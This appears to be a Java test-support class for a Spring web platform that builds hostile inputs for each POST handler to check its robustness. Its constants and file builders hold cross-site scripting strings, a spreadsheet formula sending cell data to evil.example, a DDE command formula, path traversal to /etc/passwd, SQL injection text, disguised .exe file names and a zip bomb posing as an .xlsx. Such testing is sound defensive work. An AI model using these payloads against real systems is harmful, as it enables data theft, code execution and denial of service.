package org.lvzhi.platform;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.lang.reflect.Constructor;
import java.lang.reflect.ParameterizedType;
import java.lang.reflect.RecordComponent;
import java.lang.reflect.Type;
import java.nio.charset.StandardCharsets;
import java.security.Principal;
import java.time.LocalDate;
import java.time.LocalDateTime;
import java.time.LocalTime;
import java.time.YearMonth;
import java.util.ArrayList;
import java.util.Collection;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;

import org.springframework.beans.BeanUtils;
import org.springframework.core.MethodParameter;
import org.springframework.mock.web.MockMultipartFile;
import org.springframework.security.core.Authentication;
import org.springframework.ui.Model;
import org.springframework.validation.BindingResult;
import org.springframework.web.bind.annotation.PathVariable;
import org.springframework.web.bind.annotation.RequestParam;
import org.springframework.web.method.HandlerMethod;
import org.springframework.web.multipart.MultipartFile;
import org.springframework.web.servlet.mvc.method.RequestMappingInfo;
import org.springframework.web.servlet.mvc.support.RedirectAttributes;

import jakarta.servlet.http.HttpServletRequest;
import jakarta.servlet.http.HttpServletResponse;

/**
 * The hostile inputs for one handler, derived from its parameters: the names of its
 * {@code @RequestParam}s and of the components or properties of its form class, each given a value
 * of the kind under test that fits (or, on purpose, does not fit) its declared type.
 */
final class HostileForms {

	/** Every request is answered within this, on a loaded machine too. */
	static final long BUDGET_MILLIS = 2_000;
	static final String SCRIPT_OPEN = "<script>alert('fz')";
	static final String SCRIPT = SCRIPT_OPEN + "</script><img src=x onerror=alert(1)>";
	static final String FORMULA = "=HYPERLINK(\"http://evil.example/?\"&A1,\"点击查看\")";
	static final String CMD = "=cmd|' /C calc'!A0";
	/** Past every bounded column, below the cap on a single field. */
	static final String OVERLONG = "长".repeat(5_000);
	/** Past the cap on a single field. */
	static final String HUGE = "a".repeat(100_001);
	static final String ENCODING = "\u0000\uD800\u202Egnp.exe ../../../etc/passwd %00 %E4%B8 ' OR '1'='1' -- \\";
	/** An id no record has. */
	static final String NO_RECORD = "987654321";
	/** Never a version any record has. */
	static final String NO_VERSION = "-1";

	enum Kind {
		SCRIPT, FORMULA, OVERLONG, HUGE, WRONG_TYPES, ENCODING, EMPTY, MISSING
	}

	record Input(Kind kind, String path, Map<String, List<String>> parameters, List<MockMultipartFile> files) {
	}

	private final byte[] zipBomb = zipBomb();

	static String name(RequestMappingInfo info) {
		return "POST " + info.getPatternValues().stream().sorted().findFirst().orElse("?");
	}

	List<Input> inputs(RequestMappingInfo info, HandlerMethod handler) {
		String pattern = info.getPatternValues().stream().sorted().findFirst().orElseThrow();
		List<Input> inputs = new ArrayList<>();
		for (Kind kind : Kind.values()) {
			Map<String, List<String>> parameters = new LinkedHashMap<>();
			List<MockMultipartFile> files = new ArrayList<>();
			for (MethodParameter p : handler.getMethodParameters()) {
				collect(kind, p, parameters, files);
			}
			if (kind == Kind.MISSING) {
				parameters.clear();
				files.clear();
			}
			inputs.add(new Input(kind, path(pattern, kind), parameters, files));
		}
		return inputs;
	}

	/** Path variables: an id no record has, a negative one, or text where a number is due. */
	private static String path(String pattern, Kind kind) {
		String value = switch (kind) {
			case WRONG_TYPES -> "abc";
			case ENCODING -> "-1";
			case EMPTY -> "0";
			default -> NO_RECORD;
		};
		StringBuilder out = new StringBuilder();
		int i = 0;
		while (i < pattern.length()) {
			char c = pattern.charAt(i);
			if (c != '{') {
				out.append(c);
				i++;
				continue;
			}
			int end = pattern.indexOf('}', i);
			String variable = pattern.substring(i + 1, end);
			boolean digits = variable.contains("\\d");
			boolean code = variable.toLowerCase(Locale.ROOT).contains("code") || variable.contains("type");
			out.append(digits && !value.matches("\\d+") ? NO_RECORD : code ? "ZZ" + value : value);
			i = end + 1;
		}
		return out.toString();
	}

	private void collect(Kind kind, MethodParameter p, Map<String, List<String>> parameters, List<MockMultipartFile> files) {
		Class<?> type = p.getParameterType();
		if (p.hasParameterAnnotation(PathVariable.class) || ignored(type)) {
			return;
		}
		RequestParam rp = p.getParameterAnnotation(RequestParam.class);
		String name = rp != null && !rp.name().isEmpty() ? rp.name() : rp != null && !rp.value().isEmpty() ? rp.value()
				: p.getParameterName();
		if (MultipartFile.class.isAssignableFrom(type) || isMultipartList(p)) {
			files.add(file(kind, name));
			return;
		}
		if (Map.class.isAssignableFrom(type)) {
			parameters.put("weight.RECEPTION", List.of(value(kind, Integer.class, "weight")));
			parameters.put("free-text", List.of(value(kind, String.class, "text")));
			return;
		}
		if (rp != null || BeanUtils.isSimpleValueType(type)) {
			put(kind, name, type, elementType(p.getGenericParameterType()), parameters);
			return;
		}
		form(kind, type, parameters, 0);
	}

	/** The fields of a form class: record components, constructor parameters or setters. */
	private void form(Kind kind, Class<?> type, Map<String, List<String>> parameters, int depth) {
		if (depth > 1) {
			return;
		}
		if (type.isRecord()) {
			for (RecordComponent c : type.getRecordComponents()) {
				field(kind, c.getName(), c.getType(), c.getGenericType(), parameters, depth);
			}
			return;
		}
		Constructor<?>[] constructors = type.getDeclaredConstructors();
		for (Constructor<?> constructor : constructors) {
			for (var parameter : constructor.getParameters()) {
				field(kind, parameter.getName(), parameter.getType(), parameter.getParameterizedType(), parameters, depth);
			}
		}
		for (var property : BeanUtils.getPropertyDescriptors(type)) {
			if (property.getWriteMethod() != null) {
				field(kind, property.getName(), property.getPropertyType(),
						property.getWriteMethod().getGenericParameterTypes()[0], parameters, depth);
			}
		}
	}

	private void field(Kind kind, String name, Class<?> type, Type generic, Map<String, List<String>> parameters,
			int depth) {
		if (BeanUtils.isSimpleValueType(type) || Collection.class.isAssignableFrom(type) || type.isArray()) {
			put(kind, name, type, elementType(generic), parameters);
		}
		else {
			form(kind, type, parameters, depth + 1);
		}
	}

	private static void put(Kind kind, String name, Class<?> type, Class<?> element,
			Map<String, List<String>> parameters) {
		if (Collection.class.isAssignableFrom(type) || type.isArray()) {
			Class<?> of = type.isArray() ? type.getComponentType() : element;
			String v = value(kind, of, name);
			parameters.put(name, List.of(v, v, value(kind, of, name + "2")));
		}
		else {
			parameters.put(name, List.of(value(kind, type, name)));
		}
	}

	/** A value of the kind under test for a field of this type. */
	static String value(Kind kind, Class<?> type, String name) {
		Class<?> t = type == null ? String.class : type;
		boolean version = name.toLowerCase(Locale.ROOT).contains("version");
		if (version) {
			return switch (kind) {
				case WRONG_TYPES -> "x";
				case ENCODING -> "2147483647";
				case EMPTY -> "";
				default -> NO_VERSION;
			};
		}
		if (t == String.class || t == Object.class || t == CharSequence.class) {
			return switch (kind) {
				case SCRIPT, MISSING -> SCRIPT;
				case FORMULA -> name.hashCode() % 2 == 0 ? FORMULA : CMD;
				case OVERLONG -> OVERLONG;
				case HUGE -> HUGE;
				case WRONG_TYPES -> "2023-02-30";
				case ENCODING -> ENCODING;
				case EMPTY -> "";
			};
		}
		if (kind == Kind.EMPTY) {
			return "";
		}
		if (kind == Kind.WRONG_TYPES || kind == Kind.ENCODING) {
			return kind == Kind.WRONG_TYPES ? "99999999999999999999" : "-1";
		}
		// Dates and ids that touch no demo record: other tests count the demo world's 2023.
		if (t == LocalDate.class) {
			return kind == Kind.HUGE ? "9999-12-31" : "2099-06-01";
		}
		if (t == LocalDateTime.class) {
			return "2099-06-01T10:00";
		}
		if (t == LocalTime.class) {
			return "10:00";
		}
		if (t == YearMonth.class) {
			return "2099-06";
		}
		if (t == boolean.class || t == Boolean.class) {
			return "true";
		}
		if (t.isEnum()) {
			Object[] constants = t.getEnumConstants();
			return ((Enum<?>) constants[constants.length - 1]).name();
		}
		if (t == Long.class || t == long.class) {
			return kind == Kind.HUGE ? String.valueOf(Long.MAX_VALUE) : NO_RECORD;
		}
		if (Number.class.isAssignableFrom(t) || t.isPrimitive()) {
			return kind == Kind.HUGE ? String.valueOf(Long.MAX_VALUE) : "1";
		}
		return SCRIPT;
	}

	private MockMultipartFile file(Kind kind, String name) {
		return switch (kind) {
			case SCRIPT, MISSING -> new MockMultipartFile(name, "../../../../tmp/现场.png", "image/png",
					"<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"><script>alert('fz')</script></svg>"
						.getBytes(StandardCharsets.UTF_8));
			case FORMULA -> new MockMultipartFile(name, "..\\..\\名册.xlsx", org.lvzhi.platform.Spreadsheet.CONTENT_TYPE,
					"<html><body><script>alert('fz')</script></body></html>".getBytes(StandardCharsets.UTF_8));
			case OVERLONG, HUGE -> new MockMultipartFile(name, "炸弹.xlsx", org.lvzhi.platform.Spreadsheet.CONTENT_TYPE,
					zipBomb);
			case WRONG_TYPES -> new MockMultipartFile(name, "a.docx", "application/msword", new byte[] { 'P', 'K', 3, 4, 0 });
			case ENCODING -> new MockMultipartFile(name, "\u0000\u202Egpj.exe", "text/plain",
					new byte[] { (byte) 0xC3, (byte) 0x28, (byte) 0xA0, (byte) 0xA1, 0 });
			case EMPTY -> new MockMultipartFile(name, "", "application/octet-stream", new byte[0]);
		};
	}

	/** A .xlsx in name and structure whose one sheet unpacks to 200 MB of zeros from a few hundred kilobytes. */
	private static byte[] zipBomb() {
		ByteArrayOutputStream bytes = new ByteArrayOutputStream();
		try (ZipOutputStream zip = new ZipOutputStream(bytes)) {
			zip.putNextEntry(new ZipEntry("[Content_Types].xml"));
			zip.write("<Types/>".getBytes(StandardCharsets.UTF_8));
			zip.putNextEntry(new ZipEntry("xl/workbook.xml"));
			zip.write("<workbook/>".getBytes(StandardCharsets.UTF_8));
			zip.putNextEntry(new ZipEntry("xl/worksheets/sheet1.xml"));
			byte[] zeros = new byte[1024 * 1024];
			for (int i = 0; i < 200; i++) {
				zip.write(zeros);
			}
			zip.closeEntry();
		}
		catch (IOException e) {
			throw new UncheckedIOException(e);
		}
		return bytes.toByteArray();
	}

	private static boolean ignored(Class<?> type) {
		return Model.class.isAssignableFrom(type) || BindingResult.class.isAssignableFrom(type)
				|| RedirectAttributes.class.isAssignableFrom(type) || Authentication.class.isAssignableFrom(type)
				|| Principal.class.isAssignableFrom(type) || HttpServletRequest.class.isAssignableFrom(type)
				|| HttpServletResponse.class.isAssignableFrom(type) || Locale.class == type
				|| org.springframework.web.context.request.WebRequest.class.isAssignableFrom(type)
				|| org.springframework.validation.Errors.class.isAssignableFrom(type)
				|| type.getName().startsWith("org.springframework.security")
				|| type.getName().startsWith("org.lvzhi.accounts.LvzhiPrincipal");
	}

	private static boolean isMultipartList(MethodParameter p) {
		return Collection.class.isAssignableFrom(p.getParameterType())
				&& elementType(p.getGenericParameterType()) == MultipartFile.class;
	}

	private static Class<?> elementType(Type generic) {
		if (generic instanceof ParameterizedType pt && pt.getActualTypeArguments().length == 1
				&& pt.getActualTypeArguments()[0] instanceof Class<?> c) {
			return c;
		}
		return String.class;
	}
}
